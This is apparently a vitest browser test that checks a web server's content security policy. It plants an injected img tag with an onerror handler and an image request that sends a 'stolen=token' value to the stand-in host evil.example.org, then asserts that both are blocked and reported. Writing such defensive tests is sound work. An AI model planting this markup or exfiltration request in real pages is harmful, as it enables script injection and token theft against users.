// Goal: a script that someone got into a page does not run, and we hear of it. Method: markup and a foreign picture are
// planted in the page, as a hole in it would; the browser stops both and reports; the reports are in the server's log.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { findChromium, launchChromium } from './browser.ts';
import { eventually } from './rest-client.ts';
import { RunningServer } from './running-server.ts';

const executablePath = findChromium() ?? '';

// Without a Chromium the other browser tests say so.
it.runIf(executablePath !== '')('does not run a planted script, and reports it', async () => {
  await using server = await RunningServer.start();
  await using browser = await launchChromium(executablePath);
  const page = await browser.newPage();
  await page.goto(server.url);
  await page.evaluate(() => {
    try {
      // Markup in a name, as a hole in a page would insert it.
      document.body.insertAdjacentHTML('beforeend', `<img src="x" onerror="document.body.id = 'hacked'">`);
    } catch {
      // Markup out of a string is not taken at all.
    }
    const image = document.createElement('img');
    image.src = 'https://evil.example.org/?stolen=token';
    document.body.append(image);
  });
  const log = join(server.dataDir, 'server.log');
  const readReports = () =>
    readFileSync(log, 'utf8')
      .split('\n')
      .filter((line) => line.includes('"policy.violated"'))
      .map((line) => JSON.parse(line));
  await eventually(async () => readReports().length >= 2);
  expect(readReports()).toEqual(
    expect.arrayContaining([
      expect.objectContaining({ directive: 'require-trusted-types-for' }),
      expect.objectContaining({ directive: 'img-src', blocked: 'https://evil.example.org/' }),
    ]),
  );
  expect(readFileSync(log, 'utf8')).not.toContain('stolen=');
  // ASVS 3.4.7
  expect(await page.evaluate(() => document.body.id)).toBe('');
});
